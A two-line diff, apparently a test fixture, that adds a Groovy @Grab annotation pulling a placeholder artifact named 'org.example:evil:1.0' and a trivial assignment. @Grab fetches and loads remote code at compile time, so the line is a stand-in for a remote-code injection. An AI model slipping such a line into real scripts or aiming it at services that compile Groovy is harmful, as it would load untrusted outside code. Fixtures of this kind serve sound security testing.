@@ -1,0 +1,2 @@
+@Grab(group = 'org.example', module = 'evil', version = '1.0')
+def x = 1
